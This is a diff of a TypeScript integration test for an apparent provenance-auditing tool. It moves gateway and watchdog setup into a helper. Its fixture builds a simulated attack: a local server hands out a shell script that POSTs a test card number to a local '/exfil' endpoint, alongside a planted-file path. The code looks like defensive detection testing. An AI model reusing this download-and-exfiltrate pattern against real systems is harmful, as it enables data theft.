@@ -8,12 +8,12 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startCollector, stopAllCollectors, type CollectorHandle } from '../support/collector';
-import { freePort, startWatchdog, stopAllWatchdogs, type WatchdogHandle } from '../support/watchdog';
+import { stopAllWatchdogs, type WatchdogHandle } from '../support/watchdog';
 import { call, waitFor } from '../support/provenance';
-import { startGateway, type Gateway } from '../../cli/stack/gateway';
+import { startGraphPair, type GraphPair } from '../support/graph-pair';
+import type { Gateway } from '../../cli/stack/gateway';
 
 const TOKEN = 'graph-real-run';
-const FN = join(__dirname, 'fixtures', 'fn.js');
 
 function listen(handler: Parameters<typeof createServer>[1]): Promise<Server> {
   return new Promise((resolve) => {
@@ -28,7 +28,8 @@ let gw: Gateway;
 let payload: Server, exfil: Server;
 let plantDir: string;
 let stolen: Promise<string>;
-const wds: WatchdogHandle[] = [];
+let wds: WatchdogHandle[] = [];
+let pair: GraphPair | undefined;
 
 beforeAll(async () => {
   c = await startCollector({ token: TOKEN });
@@ -42,25 +43,14 @@ beforeAll(async () => {
   });
   const script = `sleep 1\nexec ${process.execPath} -e "require('http').request({host:'127.0.0.1',port:${portOf(exfil)},method:'POST',path:'/exfil'}).end('4111-1111-1111-1111')"\n`;
   payload = await listen((_req, res) => res.end(script));
-  const ports = { front: await freePort(), back: await freePort() };
-  gw = await startGateway({ port: await freePort(), host: '127.0.0.1', routes: Object.entries(ports).map(([name, port]) => ({ name, port })) });
-  for (const [name, port] of Object.entries(ports)) {
-    const up = await freePort();
-    wds.push(await startWatchdog({
-      env: {
-        mode: 'http', port: String(port), fprocess: `${process.execPath} ${FN}`, upstream_url: `http://127.0.0.1:${up}`, UPSTREAM_PORT: String(up),
-        suppress_lock: 'true', ALASTOR_COLLECTOR_URL: c.url, ALASTOR_TOKEN: TOKEN, ALASTOR_FUNCTION: name, ALASTOR_GATEWAY_URL: gw.url,
-        ALASTOR_SPOOL_DIR: mkdtempSync(join(tmpdir(), 'alastor-spool-')), ALASTOR_AUDIT: 'on', FN_ROLE: name,
-        PAYLOAD_URL: `http://127.0.0.1:${portOf(payload)}/payload.sh`, PLANT_PATH: join(plantDir, 'planted.sh'),
-      },
-      timeoutMs: 30000,
-    }));
-  }
+  pair = await startGraphPair({ collectorUrl: c.url, token: TOKEN, payloadUrl: `http://127.0.0.1:${portOf(payload)}/payload.sh`, plantPath: join(plantDir, 'planted.sh') });
+  gw = pair.gw;
+  wds = pair.wds;
 }, 90000);
 
 afterAll(async () => {
   await stopAllWatchdogs();
-  await gw?.close();
+  await pair?.close();
   payload?.close();
   exfil?.close();
   await c?.stop();
